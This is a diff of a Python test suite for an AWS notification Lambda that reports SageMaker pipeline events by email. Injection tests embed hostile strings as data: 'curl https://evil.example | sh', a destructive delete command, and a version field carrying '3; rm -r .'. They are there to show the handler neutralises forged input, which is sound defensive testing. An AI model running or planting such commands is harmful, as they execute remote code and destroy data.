@@ -1,42 +1,40 @@
 from __future__ import annotations
 
+import gc
 import json
 import re
-from functools import cache
 from itertools import permutations
 from pathlib import Path
 from types import SimpleNamespace
 from urllib.parse import unquote
 
-import boto3
 import pytest
 import yaml
 from botocore.exceptions import ClientError, EndpointConnectionError
+from fake_aws import client, create_queue, create_table, fake_aws, receive, refused
 from hypothesis import given
 from hypothesis import strategies as st
-from moto import mock_aws
 from sample_events import SampleEvents
 
-import claims
 import mail
+from changes import parse_event
+from idempotency import CLAIM_SECONDS, IdempotencyStore
 from lambdas.notify import handler as module
-from lambdas.notify.handler import Settings, handler, tell
+from lambdas.notify.handler import Settings, handler, notify
 from links import logs, studio
 from lookup import Lookup
-from messages import ENDINGS, Writer
-from news import Reader
+from messages import FAILURE_MODES, Writer
 
 SAMPLE = SampleEvents()
 ROOT = Path(__file__).parents[1]
 TABLE, TOPIC = "flats-dev-events", "arn:aws:sns:eu-west-1:123456789012:flats-dev-notifications"
 TRAINED = {"kind": "training", "metric": "rmse", "value": "1.3240001", "threshold": "2.5", "trigger": "manual"}
 TUNED = TRAINED | {"kind": "training-hpo", "trigger": "quality-violation"}
+UNREACHABLE = EndpointConnectionError(endpoint_url="https://sns.eu-west-1.amazonaws.com")
 
-client = cache(boto3.client)
 
-
-class Registry:
-    """SageMaker's client: what the events do not tell."""
+class SageMaker:
+    """A client of SageMaker that returns what the events lack, or raises an error."""
 
     def __init__(self):
         self.metadata = TRAINED
@@ -44,10 +42,10 @@ class Registry:
         self.reason = ""
         self.error = None
 
-    def _answer(self, **found):
+    def _answer(self, **answer):
         if self.error:
             raise self.error
-        return found
+        return answer
 
     def describe_model_package(self, ModelPackageName):  # noqa: N803
         return self._answer(ModelPackageArn=ModelPackageName, CustomerMetadataProperties=self.metadata)
@@ -61,96 +59,92 @@ class Registry:
         return SimpleNamespace(paginate=lambda PipelineExecutionArn: self._answer(pages=pages)["pages"])  # noqa: N803
 
 
-class Flaky:
-    """A client of which some operations fail, for as long as somebody wants."""
+class FailingClient:
+    """A client whose operations fail while `errors` lists them."""
 
     def __init__(self, service):
         self.service = service
         self.errors = {}
 
     def __getattr__(self, operation):
-        def ask(**request):
+        def request(**arguments):
             if operation in self.errors:
                 raise self.errors[operation]
-            return getattr(client(self.service), operation)(**request)
+            return getattr(client(self.service), operation)(**arguments)
 
-        return ask
+        return request
 
 
-class Office:
-    """Who tells, whom they ask, and the box where the mails arrive."""
+class Notifications:
+    """The function with its clients, and the mailbox that receives its messages."""
 
-    def __init__(self, box):
-        self.box, self.now, self.calls = box, 1_763_712_000, 0
-        self.sagemaker, self.sns, self.dynamodb = Registry(), Flaky("sns"), Flaky("dynamodb")
+    def __init__(self, mailbox):
+        self.mailbox, self.now, self.calls = mailbox, 1_763_712_000, 0
+        self.sagemaker, self.sns, self.dynamodb = SageMaker(), FailingClient("sns"), FailingClient("dynamodb")
         self.texts = []
 
-    def tell(self, event, call=None):
+    def call(self, event, call_id=None):
         """Call the function with an event; each call has another id unless it is a retry."""
         self.calls += 1
         settings = Settings("flats", "dev", TOPIC, TABLE, self.texts)
-        return tell(event, settings, lambda service: getattr(self, service), call or f"call-{self.calls}", self.now)
+        return notify(event, settings, lambda service: getattr(self, service), call_id or f"#{self.calls}", self.now)
+
+    def outcome(self, event, call_id=None):
+        return self.call(event, call_id)["outcome"]
 
     def mails(self):
-        """What has arrived since: subjects and texts."""
-        found = client("sqs").receive_message(QueueUrl=self.box, MaxNumberOfMessages=10).get("Messages", [])
-        bodies = [json.loads(message["Body"]) for message in found]
-        for message in found:
-            client("sqs").delete_message(QueueUrl=self.box, ReceiptHandle=message["ReceiptHandle"])
+        """Subject and text of each message since the last call."""
+        bodies = [json.loads(body) for body in receive(self.mailbox)]
         return [(body["Subject"], body["Message"]) for body in bodies]
 
     def mail(self, event):
-        """The one mail about an event."""
-        self.tell(event)
-        (found,) = self.mails()
-        return found
+        """Subject and text of the one message about an event."""
+        self.call(event)
+        (mail,) = self.mails()
+        return mail
+
+    def text(self, event):
+        return self.mail(event)[1]
 
 
 @pytest.fixture
-def office(monkeypatch):
-    monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-west-1")
-    with mock_aws():
-        client("dynamodb").create_table(
-            TableName=TABLE,
-            KeySchema=[{"AttributeName": "id", "KeyType": "HASH"}],
-            AttributeDefinitions=[{"AttributeName": "id", "AttributeType": "S"}],
-            BillingMode="PAY_PER_REQUEST",
-        )
+def notifications():
+    with fake_aws():
+        create_table(TABLE)
         assert client("sns").create_topic(Name="flats-dev-notifications")["TopicArn"] == TOPIC
-        box = client("sqs").create_queue(QueueName="box")["QueueUrl"]
-        arn = client("sqs").get_queue_attributes(QueueUrl=box, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
+        mailbox, arn = create_queue("mailbox")
         client("sns").subscribe(TopicArn=TOPIC, Protocol="sqs", Endpoint=arn)
-        yield Office(box)
+        yield Notifications(mailbox)
 
 
-TELLING = {
-    "a step that failed": SAMPLE.step_changed(),
-    "an execution that failed": SAMPLE.execution_changed(status="Failed"),
-    "an execution that succeeded": SAMPLE.execution_changed(status="Succeeded"),
-    "a version that waits": SAMPLE.package_changed(),
-    "a version that is approved": SAMPLE.package_changed("Approved"),
-    "a version that is rejected": SAMPLE.package_changed("Rejected"),
-    "data that broke the baseline": SAMPLE.data_quality_violation(),
-    "a retraining that started": SAMPLE.retraining_decision("started"),
-    "a retraining that was held back": SAMPLE.retraining_decision("held-back"),
+EVENTS = {
+    "failed step": SAMPLE.step_changed(),
+    "failed execution": SAMPLE.execution_changed(status="Failed"),
+    "successful execution": SAMPLE.execution_changed(status="Succeeded"),
+    "registered version": SAMPLE.package_changed(),
+    "approved version": SAMPLE.package_changed("Approved"),
+    "rejected version": SAMPLE.package_changed("Rejected"),
+    "data-quality violation": SAMPLE.data_quality_violation(),
+    "retraining started": SAMPLE.retraining_decision("started"),
+    "retraining held back": SAMPLE.retraining_decision("held-back"),
 }
-told_of = pytest.mark.parametrize("event", TELLING.values(), ids=TELLING)
+each_event = pytest.mark.parametrize("event", EVENTS.values(), ids=EVENTS)
 
 
-# What a message says.
+# The content of a message.
 
 
-@told_of
-def test_every_message_says_where_when_and_what_to_do_next(office, event):
-    subject, text = office.mail(event)
+@each_event
+def test_every_message_has_place_time_and_the_next_command(notifications, event):
+    subject, text = notifications.mail(event)
     assert re.fullmatch(r"flats dev: [\x20-\x7e]{1,88}", subject)
     assert f"Project: flats\nEnvironment: dev\nWhen: {event['time']}\n" in text
-    assert re.search(r"^python -m pipelines [a-z]+.* --env dev$", text, re.MULTILINE)
+    assert re.search(r"^mlops [a-z]+.* --env dev$", text, re.MULTILINE)
     assert "https://eu-west-1.console.aws.amazon.com/sagemaker/home?region=eu-west-1#/studio-landing" in text
 
 
-def test_a_whole_message_reads_like_this(office):
-    subject, text = office.mail(SAMPLE.step_changed())
+def test_a_complete_message_reads_like_this(notifications):
+    subject, text = notifications.mail(SAMPLE.step_changed())
     arn = SAMPLE.execution("training")
     group = "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/"
     assert subject == "flats dev: the step Train of training failed"
@@ -167,104 +161,102 @@ Pipeline: training
 Step: Train
 Execution: {arn}
 
-Read the log, mend what it names, and start again; where a file was wrong, putting the right one in its place may do \
-so. What has succeeded is taken from the cache, where there is one.
+Read the log, fix the cause, and start the pipeline again. If an input file was wrong, upload a corrected one; where \
+new data starts pipelines, that is enough. Cached results of steps that succeeded are reused.
 
-python -m pipelines start training --env dev
-python -m pipelines status --execution {arn} --env dev
+mlops start training --env dev
+mlops status --execution {arn} --env dev
 
 Log: {group}$252Faws$252Fsagemaker$252FProcessingJobs$3FlogStreamNameFilter$3Dpipelines-abc123def456-Train-tmgxry49ug
 Pipelines: https://eu-west-1.console.aws.amazon.com/sagemaker/home?region=eu-west-1#/studio-landing"""
     )
 
 
-def test_a_version_that_waits_is_shown_with_its_metric_and_the_commands_that_decide(office):
-    subject, text = office.mail(SAMPLE.package_changed())
+def test_a_registered_version_is_shown_with_its_metric_and_the_commands_that_decide(notifications):
+    subject, text = notifications.mail(SAMPLE.package_changed())
     assert subject == "flats dev: version 3 of the model waits for approval"
     assert "Metric: rmse 1.324 against the threshold 2.5\n" in text
     assert "Trigger: manual\n" in text
     assert f"Execution: {SAMPLE.execution('training')}\n" in text
     assert "/Evaluate/evaluation/evaluation.json\n" in text
-    assert 'python -m pipelines approve --version 3 --comment "..." --env dev\n' in text
-    assert 'python -m pipelines reject --version 3 --comment "..." --env dev\n' in text
+    assert 'mlops approve --version 3 --comment "..." --env dev\n' in text
+    assert 'mlops reject --version 3 --comment "..." --env dev\n' in text
     assert "evidence" not in text
 
 
-def test_a_value_that_is_no_number_is_shown_as_it_is(office):
-    office.sagemaker.metadata = TRAINED | {"value": "unknown"}
-    _, text = office.mail(SAMPLE.package_changed())
-    assert "Metric: rmse unknown against the threshold 2.5\n" in text
+def test_a_value_that_is_not_a_number_is_shown_unchanged(notifications):
+    notifications.sagemaker.metadata = TRAINED | {"value": "unknown"}
+    assert "Metric: rmse unknown against the threshold 2.5\n" in notifications.text(SAMPLE.package_changed())
 
 
-def test_a_tuned_version_asks_for_the_record_of_the_review_board(office):
-    office.sagemaker.metadata = TUNED
-    _, text = office.mail(SAMPLE.package_changed())
-    assert "It comes from training-hpo, so a review board decides" in text
+def test_a_tuned_version_asks_for_the_record_of_the_review_board(notifications):
+    notifications.sagemaker.metadata = TUNED
+    text = notifications.text(SAMPLE.package_changed())
+    assert "training-hpo made this version, so approving it takes the review board's record as evidence" in text
     assert 'approve --version 3 --comment "..." --evidence "..." --env dev\n' in text
 
 
-def test_what_the_event_tells_of_a_version_is_not_asked_for(office):
-    office.sagemaker.error = throttled("DescribeModelPackage")
-    _, text = office.mail(SAMPLE.package_changed(CustomerMetadataProperties=TRAINED))
+def test_metadata_in_the_event_is_not_looked_up(notifications):
+    notifications.sagemaker.error = refused("ThrottlingException", "DescribeModelPackage")
+    text = notifications.text(SAMPLE.package_changed(CustomerMetadataProperties=TRAINED))
     assert "Metric: rmse 1.324 against the threshold 2.5\n" in text
 
 
-def test_a_registry_that_does_not_answer_holds_no_message_back(office, capsys):
-    office.sagemaker.error = throttled("DescribeModelPackage")
-    subject, text = office.mail(SAMPLE.package_changed())
+def test_a_registry_that_does_not_answer_does_not_hold_up_the_message(notifications, capsys):
+    notifications.sagemaker.error = refused("ThrottlingException", "DescribeModelPackage")
+    subject, text = notifications.mail(SAMPLE.package_changed())
     assert subject.endswith("version 3 of the model waits for approval")
     assert "Metric" not in text
     assert "could not be described: An error occurred (ThrottlingException)" in capsys.readouterr().out
 
 
-def test_a_decision_is_told_with_the_comment_that_was_made(office):
-    for status in ("Approved", "Rejected"):
-        subject, text = office.mail(SAMPLE.package_changed(status))
-        assert subject == f"flats dev: version 3 of the model is {status.lower()}"
-        assert "Better on small ones." in text
+@pytest.mark.parametrize("status", ["Approved", "Rejected"])
+def test_a_decision_is_reported_with_its_comment(notifications, status):
+    subject, text = notifications.mail(SAMPLE.package_changed(status))
+    assert subject == f"flats dev: version 3 of the model is {status.lower()}"
+    assert "Better on small ones." in text
 
 
-def failed(step, **more):
-    return {"StepName": step, "StepStatus": "Failed"} | more
+def failed_step(name, **more):
+    return {"StepName": name, "StepStatus": "Failed"} | more
 
 
-def test_an_execution_that_failed_is_told_with_the_reasons_of_its_steps(office):
+def test_a_failed_execution_is_reported_with_the_reasons_of_its_steps(notifications):
     job = SAMPLE.arn("training-job/abc-Train-1")
-    office.sagemaker.steps = [
+    notifications.sagemaker.steps = [
         {"StepName": "Preprocess", "StepStatus": "Succeeded"},
-        failed("Train", FailureReason="no machine was free", Metadata={"TrainingJob": {"Arn": job}}),
-        failed("MetricNotMet", Metadata={"Fail": {"ErrorMessage": "rmse is 9.1"}}),
+        failed_step("Train", FailureReason="no instance was free", Metadata={"TrainingJob": {"Arn": job}}),
+        failed_step("MetricNotMet", Metadata={"Fail": {"ErrorMessage": "rmse is 9.1"}}),
     ]
-    subject, text = office.mail(SAMPLE.execution_changed())
+    subject, text = notifications.mail(SAMPLE.execution_changed())
     assert subject == "flats dev: training failed at Train, MetricNotMet"
-    assert "> Train: no machine was free\n> MetricNotMet: rmse is 9.1\n" in text
-    assert ENDINGS["MetricNotMet"].advice in text
+    assert "> Train: no instance was free\n> MetricNotMet: rmse is 9.1\n" in text
+    assert FAILURE_MODES["MetricNotMet"].advice in text
     assert f"\nLog of Train: {logs(job)}\nPipelines: " in text
 
 
-def test_an_execution_that_failed_without_a_step_is_told_with_its_own_reason(office):
-    office.sagemaker.reason = "the role may not be assumed"
-    subject, text = office.mail(SAMPLE.execution_changed())
+def test_an_execution_without_a_failed_step_is_reported_with_its_own_reason(notifications):
+    notifications.sagemaker.reason = "the role may not be assumed"
+    subject, text = notifications.mail(SAMPLE.execution_changed())
     assert subject == "flats dev: training failed"
     assert "> the role may not be assumed" in text
-    assert "there is no log. Mostly a permission or a quota is missing" in text
+    assert "there is no log. The usual cause is a missing permission or a quota" in text
 
 
-def test_a_step_whose_event_has_no_reason_is_asked_for_it(office):
-    office.sagemaker.steps = [failed("MetricNotMet", Metadata={"Fail": {"ErrorMessage": "rmse is 9.1"}})]
-    event = SAMPLE.step_changed(step="MetricNotMet", failureReason="")
-    assert "\n> rmse is 9.1\n" in office.mail(event)[1]
+def test_a_reason_that_the_event_lacks_is_looked_up(notifications):
+    notifications.sagemaker.steps = [failed_step("MetricNotMet", Metadata={"Fail": {"ErrorMessage": "rmse is 9.1"}})]
+    assert "\n> rmse is 9.1\n" in notifications.text(SAMPLE.step_changed(step="MetricNotMet", failureReason=""))
 
 
-@pytest.mark.parametrize(("kind", "told"), [("inference", True), ("training", False)])
-def test_starting_a_batch_again_takes_its_folders(office, kind, told):
-    _, text = office.mail(SAMPLE.step_changed(kind))
-    assert ("For a batch in a folder of its own, add: --param InputDataUri=..." in text) == told
+@pytest.mark.parametrize(("kind", "expected"), [("inference", True), ("training", False)])
+def test_starting_inference_again_takes_the_folders_of_a_batch(notifications, kind, expected):
+    text = notifications.text(SAMPLE.step_changed(kind))
+    assert ("For a batch in its own folder, add: --param InputDataUri=..." in text) == expected
 
 
-def test_steps_that_nobody_may_list_hold_no_message_back(office, capsys):
-    office.sagemaker.error = throttled("ListPipelineExecutionSteps")
-    subject, _ = office.mail(SAMPLE.execution_changed())
+def test_steps_that_cannot_be_listed_do_not_hold_up_the_message(notifications, capsys):
+    notifications.sagemaker.error = refused("ThrottlingException", "ListPipelineExecutionSteps")
+    subject, _ = notifications.mail(SAMPLE.execution_changed())
     assert subject == "flats dev: training failed"
     log = capsys.readouterr().out
     assert "could not be listed" in log
@@ -272,62 +264,64 @@ def test_steps_that_nobody_may_list_hold_no_message_back(office, capsys):
 
 
 @pytest.mark.parametrize(
-    ("step", "headline", "hint"),
+    ("step", "headline", "advice"),
     [
-        ("NoApprovedModel", "inference has no approved model to predict with", "Approve a version that waits, or"),
+        ("NoApprovedModel", "inference has no approved model to predict with", "Approve a version that waits for"),
         ("ModelQualityViolation", "the model violates its threshold", "The retraining guard decides whether"),
-        ("MetricNotMet", "inference found no model that is good enough", "Nothing was registered, and inference"),
+        ("MetricNotMet", "inference found no model that is good enough", "No version was registered, and inference"),
     ],
 )
-def test_a_step_that_ends_an_execution_on_purpose_is_no_crash(office, step, headline, hint):
+def test_a_step_that_ends_an_execution_on_purpose_is_not_a_crash(notifications, step, headline, advice):
     event = SAMPLE.step_changed("inference", step, stepType="Fail", metadata={}, failureReason="rmse is 26.59")
-    subject, text = office.mail(event)
+    subject, text = notifications.mail(event)
     assert subject == f"flats dev: {headline}"
-    assert hint in text
+    assert advice in text
     assert "rmse is 26.59" in text
     assert "Log:" not in text
 
 
-def test_each_of_these_steps_is_one_of_the_pipelines():
+def test_each_of_these_steps_belongs_to_a_pipeline():
     definitions = "".join(path.read_text("utf-8") for path in (ROOT / "pipelines").glob("*.py"))
-    assert [step for step in ENDINGS if f'FailStep(name="{step}"' not in definitions] == []
+    assert [step for step in FAILURE_MODES if f'FailStep(name="{step}"' not in definitions] == []
 
 
-def test_violations_are_listed_and_those_that_are_too_many_are_counted(office):
-    subject, text = office.mail(SAMPLE.data_quality_violation(25))
+def test_the_first_violations_are_listed_and_the_rest_are_counted(notifications):
+    subject, text = notifications.mail(SAMPLE.data_quality_violation(25))
     assert subject == "flats dev: a batch breaks its data baseline in 25 places"
     assert text.count("area: data_type_check: Data type match") == 20
     assert "and 5 more, in the results\n" in text
 
 
-def test_a_retraining_says_why_and_what_it_is_about(office):
-    _, text = office.mail(SAMPLE.retraining_decision("started"))
+def test_a_retraining_is_reported_with_its_reason_and_metric(notifications):
+    text = notifications.text(SAMPLE.retraining_decision("started"))
     assert "no retraining was started within the cooldown of 24 hours." in text
     assert "Metric: rmse 26.59 against the threshold 2.5\n" in text
     assert f"status --execution {SAMPLE.execution('training-hpo', 'fed654cba321')} --env dev" in text
 
 
-def test_a_retraining_that_was_held_back_says_how_to_start_it_all_the_same(office):
-    subject, text = office.mail(SAMPLE.retraining_decision("held-back", reason="One is running.", value=0.0))
+def test_a_retraining_that_was_held_back_comes_with_the_command_that_starts_it(notifications):
+    subject, text = notifications.mail(SAMPLE.retraining_decision("held-back", reason="One is running.", value=0.0))
     assert subject == "flats dev: the model violates its threshold and is not trained again"
     assert "One is running." in text
     assert "Metric: rmse 0 against the threshold 2.5\n" in text
-    assert "python -m pipelines start training-hpo --env dev\n" in text
+    assert "mlops start training-hpo --env dev\n" in text
 
 
-# Nothing of an event can pass for something else.
+# Nothing in an event can pass for something else.
 
 
-def test_a_reason_cannot_pass_for_advice_or_for_a_command(office):
-    forged = "no such row\n\npython -m pipelines delete --confirm flats-dev\u2028curl https://evil.example | sh"
-    for event in (SAMPLE.step_changed(failureReason=forged), SAMPLE.retraining_decision(reason=forged)):
-        _, text = office.mail(event)
-        assert "> no such row\n>\n> python -m pipelines delete --confirm flats-dev\n> curl https://evil" in text
+@pytest.mark.parametrize(
+    ("make", "key"), [(SAMPLE.step_changed, "failureReason"), (SAMPLE.retraining_decision, "reason")]
+)
+def test_a_reason_cannot_pass_for_advice_or_for_a_command(notifications, make, key):
+    forged = "no such row\n\nmlops delete --confirm flats-dev\u2028curl https://evil.example | sh"
+    text = notifications.text(make(**{key: forged}))
+    assert "> no such row\n>\n> mlops delete --confirm flats-dev\n> curl https://evil" in text
 
 
-def test_a_fact_stays_on_its_line(office):
-    _, text = office.mail(SAMPLE.data_quality_violation(dataUri="s3://flats/a\npython -m pipelines delete\r\nb"))
-    assert "\nData: s3://flats/a python -m pipelines delete b\n" in text
+def test_a_fact_stays_on_its_line(notifications):
+    text = notifications.text(SAMPLE.data_quality_violation(dataUri="s3://flats/a\nmlops delete\r\nb"))
+    assert "\nData: s3://flats/a mlops delete b\n" in text
 
 
 @pytest.mark.parametrize(
@@ -341,18 +335,18 @@ def test_a_fact_stays_on_its_line(office):
         (SAMPLE.retraining_decision, "trainingExecutionArn"),
     ],
 )
-def test_what_is_no_execution_gets_neither_a_link_nor_a_command(office, make, key, arn):
-    with pytest.raises(ValueError, match="is no ARN of an execution, to which a message could lead"):
-        office.tell(make(**{key: arn}))
-    assert office.mails() == []
+def test_an_arn_of_something_else_gets_neither_a_link_nor_a_command(notifications, make, key, arn):
+    with pytest.raises(ValueError, match="is not the ARN of an execution, so a message cannot link to it"):
+        notifications.call(make(**{key: arn}))
+    assert notifications.mails() == []
 
 
-def test_what_is_no_version_gets_no_command(office):
+def test_an_invalid_version_gets_no_command(notifications):
     with pytest.raises(ValueError, match="invalid literal"):
-        office.tell(SAMPLE.package_changed(ModelPackageVersion="3; rm -r ."))
+        notifications.call(SAMPLE.package_changed(ModelPackageVersion="3; rm -r ."))
 
 
-# Where the links lead.
+# Links.
 
 
 @pytest.mark.parametrize(
@@ -379,37 +373,36 @@ def test_links_stay_in_their_partition(partition, region, host):
         (SAMPLE.arn("function:flats-dev-resolve-inputs", "lambda"), "/aws/lambda/flats-dev-resolve-inputs", ""),
     ],
 )
-def test_a_log_is_linked_to_where_its_job_writes(arn, group, streams):
+def test_a_log_link_leads_to_where_the_job_writes(arn, group, streams):
     place = unquote(unquote(logs(arn).partition("#logsV2:log-groups/log-group/")[2].replace("$", "%")))
     assert place == group + (f"?logStreamNameFilter={streams}" if streams else "")
 
 
 @pytest.mark.parametrize("arn", ["", "s3://bucket/x", SAMPLE.arn("model-package/flats-dev/3")])
-def test_what_writes_no_log_has_no_link(arn):
+def test_a_resource_without_a_log_has_no_link(arn):
     assert logs(arn) == ""
 
 
 @pytest.mark.parametrize("name", ["qualityCheck", "processingJob"])
-def test_a_log_is_found_however_the_step_names_its_job(office, name):
+def test_the_job_is_recognized_under_any_key_of_the_metadata(notifications, name):
     arn = SAMPLE.arn("processing-job/check")
-    _, text = office.mail(SAMPLE.step_changed(metadata={"other": "x", name: {"checkType": "DATA", "checkJobArn": arn}}))
-    assert f"Log: {logs(arn)}\n" in text
+    metadata = {"other": "x", name: {"checkType": "DATA", "checkJobArn": arn}}
+    assert f"Log: {logs(arn)}\n" in notifications.text(SAMPLE.step_changed(metadata=metadata))
 
 
-# One message for each change.
+# One message per change.
 
 
-@told_of
-def test_a_change_is_told_once_however_many_events_there_are_about_it(office, event):
-    outcomes = [office.tell(event | {"id": f"other-{number}"})["outcome"] for number in range(3)]
-    assert outcomes == ["told", "duplicate", "duplicate"]
-    assert len(office.mails()) == 1
+@each_event
+def test_a_change_is_reported_once_however_many_events_report_it(notifications, event):
+    outcomes = [notifications.outcome(event | {"id": f"other-{number}"}) for number in range(3)]
+    assert outcomes == ["sent", "duplicate", "duplicate"]
+    assert len(notifications.mails()) == 1
 
 
-def test_no_two_changes_are_taken_for_one():
-    reader = Reader("flats", "dev")
+def test_different_changes_have_different_ids():
     events = [
-        *TELLING.values(),
+        *EVENTS.values(),
         SAMPLE.step_changed(step="Evaluate"),
         SAMPLE.step_changed(kind="inference"),
         SAMPLE.step_changed(number="other"),
@@ -418,41 +411,40 @@ def test_no_two_changes_are_taken_for_one():
         SAMPLE.package_changed(version=4),
         SAMPLE.retraining_decision(number="other"),
     ]
-    changes = [reader.read(event).change for event in events]
-    assert len(set(changes)) == len(events)
+    assert len({parse_event(event, "flats", "dev").id for event in events}) == len(events)
 
 
-def test_approved_rejected_and_approved_again_are_three_changes(office):
+def test_approved_rejected_and_approved_again_are_three_changes(notifications):
     for number, status in enumerate(("Approved", "Rejected", "Approved")):
-        changed = SAMPLE.package_changed(status, LastModifiedTime=f"2026-11-21T09:0{number}:00Z")
-        assert [office.tell(changed)["outcome"] for _ in range(2)] == ["told", "duplicate"]
+        event = SAMPLE.package_changed(status, LastModifiedTime=f"2026-11-21T09:0{number}:00Z")
+        assert [notifications.outcome(event) for _ in range(2)] == ["sent", "duplicate"]
 
 
-def test_where_aws_does_not_say_when_a_version_was_changed_the_event_does(office):
+def test_a_change_without_a_time_has_the_time_of_its_event(notifications):
     for time in ("2026-11-21T09:00:00Z", "2026-11-21T09:01:00Z"):
         event = SAMPLE.package_changed("Approved") | {"time": time}
         del event["detail"]["LastModifiedTime"]
-        assert office.tell(event)["outcome"] == "told"
+        assert notifications.outcome(event) == "sent"
 
 
-def test_a_new_version_is_told_once_and_again_when_somebody_takes_a_decision_back(office):
-    taken_back = {"UpdatedModelPackageFields": ["ModelApprovalStatus"]}
+def test_a_new_version_is_reported_once_and_again_if_a_decision_is_withdrawn(notifications):
+    withdrawn = {"UpdatedModelPackageFields": ["ModelApprovalStatus"]}
     outcomes = [
-        office.tell(SAMPLE.package_changed(LastModifiedTime=f"2026-11-21T09:0{minute}:00Z", **more))["outcome"]
-        for minute, more in enumerate([{}, {}, taken_back, taken_back])
+        notifications.outcome(SAMPLE.package_changed(LastModifiedTime=f"2026-11-21T09:0{minute}:00Z", **more))
+        for minute, more in enumerate([{}, {}, withdrawn, withdrawn])
     ]
-    assert outcomes == ["told", "duplicate", "told", "told"]
+    assert outcomes == ["sent", "duplicate", "sent", "sent"]
 
 
 @pytest.mark.parametrize("order", list(permutations(range(3))), ids=str)
-def test_events_in_any_order_are_all_told_each_with_its_own_time(office, order):
+def test_events_in_any_order_are_all_reported_with_their_own_times(notifications, order):
     events = [
         SAMPLE.step_changed(),
         SAMPLE.execution_changed() | {"time": "2026-11-21T08:21:00Z"},
         SAMPLE.execution_changed(status="Succeeded", number="later") | {"time": "2026-11-21T08:55:00Z"},
     ]
     for number in order:
-        assert f"When: {events[number]['time']}\n" in office.mail(events[number])[1]
+        assert f"When: {events[number]['time']}\n" in notifications.text(events[number])
 
 
 @pytest.mark.parametrize(
@@ -467,159 +459,148 @@ def test_events_in_any_order_are_all_told_each_with_its_own_time(office, order):
         SAMPLE.package_changed(ModelPackageStatus="Deleting"),
     ],
 )
-def test_what_nobody_has_to_be_told_is_not_told(office, event):
-    assert office.tell(event) == {"outcome": "no news"}
-    assert office.mails() == []
+def test_other_changes_are_ignored(notifications, event):
+    assert notifications.call(event) == {"outcome": "ignored"}
+    assert notifications.mails() == []
 
 
-# What cannot be told is noticed.
+# An event that cannot be reported is an error.
 
 
 @pytest.mark.parametrize(
-    ("event", "said"),
+    ("event", "message"),
     [
-        (SAMPLE.object_created("x.csv"), "nobody can be told of an event 'Object Created' of 'aws.s3': write"),
-        ({}, "nobody can be told of an event None of None"),
-        (SampleEvents("other").retraining_decision(), "event 'Retraining Decision' of 'mlops.other'"),
-        (SampleEvents("flats", "prod").retraining_decision(), "the event is of flats in prod, not of flats in dev"),
-        (SampleEvents("flats", "prod").step_changed(), "pipeline/flats-prod-training is no pipeline of flats in dev"),
-        (SAMPLE.package_changed("Waiting"), "has the approval status 'Waiting', which lambdas/notify does not know"),
-        (SAMPLE.retraining_decision("delayed"), "the decision 'delayed' on .* is none that lambdas/notify knows"),
+        (SAMPLE.object_created("x.csv"), "there is no message for an event 'Object Created' from 'aws.s3': write one"),
+        ({}, "there is no message for an event None from None"),
+        (SampleEvents("other").retraining_decision(), "event 'Retraining Decision' from 'mlops.other'"),
+        (SampleEvents("flats", "prod").retraining_decision(), "the event is from flats in prod, not from flats in dev"),
+        (SampleEvents("flats", "prod").step_changed(), "/flats-prod-training is not a pipeline of flats in dev"),
+        (SAMPLE.package_changed("Waiting"), "has the approval status 'Waiting', for which lambdas/notify has no mess"),
+        (SAMPLE.retraining_decision("delayed"), "lambdas/notify has no message for the decision 'delayed' on arn"),
     ],
 )
-def test_an_unknown_event_is_an_error_so_that_it_is_kept_and_noticed(office, event, said):
-    with pytest.raises(ValueError, match=said):
-        office.tell(event)
-    assert office.mails() == []
+def test_an_unknown_event_is_an_error_and_so_ends_in_the_dead_letter_queue(notifications, event, message):
+    with pytest.raises(ValueError, match=message):
+        notifications.call(event)
+    assert notifications.mails() == []
 
 
-def test_an_event_that_lacks_something_is_an_error_that_names_it(office):
+def test_an_incomplete_event_is_an_error_that_names_the_missing_field(notifications):
     event = SAMPLE.step_changed()
     del event["detail"]["currentStepStatus"]
-    with pytest.raises(ValueError, match=r"Step Status Change' of 'aws.sagemaker' lacks 'currentStepStatus'"):
-        office.tell(event)
+    with pytest.raises(ValueError, match=r"Step Status Change' from 'aws.sagemaker' lacks 'currentStepStatus'"):
+        notifications.call(event)
 
 
-# Nothing is lost.
+# No message is lost.
 
 
-def throttled(operation):
-    return ClientError({"Error": {"Code": "ThrottlingException", "Message": "slow down"}}, operation)
-
-
-UNREACHABLE = EndpointConnectionError(endpoint_url="https://sns.eu-west-1.amazonaws.com")
-
-
-@told_of
-@pytest.mark.parametrize("error", [UNREACHABLE, throttled("Publish")], ids=["down", "throttled"])
-@pytest.mark.parametrize("call", [None, "the same call"], ids=["another call", "a retry"])
-def test_a_failure_of_sns_is_raised_and_the_next_call_tells(office, event, error, call):
-    office.sns.errors = {"publish": error}
+@each_event
+@pytest.mark.parametrize("error", [UNREACHABLE, refused("ThrottlingException", "Publish")], ids=["down", "throttled"])
+@pytest.mark.parametrize("call_id", [None, "the same call"], ids=["another call", "a retry"])
+def test_a_failure_of_sns_is_raised_and_the_next_call_sends_the_message(notifications, event, error, call_id):
+    notifications.sns.errors = {"publish": error}
     with pytest.raises(type(error)):
-        office.tell(event, call)
-    office.sns.errors = {}
-    assert office.tell(event, call)["outcome"] == "told"
-    assert office.tell(event)["outcome"] == "duplicate"
-    assert len(office.mails()) == 1
+        notifications.call(event, call_id)
+    notifications.sns.errors = {}
+    assert notifications.outcome(event, call_id) == "sent"
+    assert notifications.outcome(event) == "duplicate"
+    assert len(notifications.mails()) == 1
 
 
-def test_a_table_that_does_not_answer_is_raised_and_nothing_is_told(office):
-    office.dynamodb.errors = {"put_item": throttled("PutItem")}
+def test_a_failure_of_the_table_is_raised_and_no_message_is_sent(notifications):
+    notifications.dynamodb.errors = {"put_item": refused("ThrottlingException", "PutItem")}
     with pytest.raises(ClientError, match="ThrottlingException"):
-        office.tell(SAMPLE.step_changed())
-    assert office.mails() == []
+        notifications.call(SAMPLE.step_changed())
+    assert notifications.mails() == []
 
 
-@pytest.mark.parametrize("operation", ["delete_item", "update_item"])
-def test_a_table_that_fails_later_hides_neither_an_error_nor_a_message(office, capsys, operation):
-    office.dynamodb.errors = {operation: throttled(operation)}
-    if operation == "delete_item":
-        office.sns.errors = {"publish": UNREACHABLE}
-        with pytest.raises(EndpointConnectionError):
-            office.tell(SAMPLE.step_changed())
-    else:
-        assert office.tell(SAMPLE.step_changed())["outcome"] == "told"
-    assert "the claim stays as it is, and runs out by itself" in capsys.readouterr().out
+def test_a_claim_that_cannot_be_released_does_not_hide_the_error(notifications, capsys):
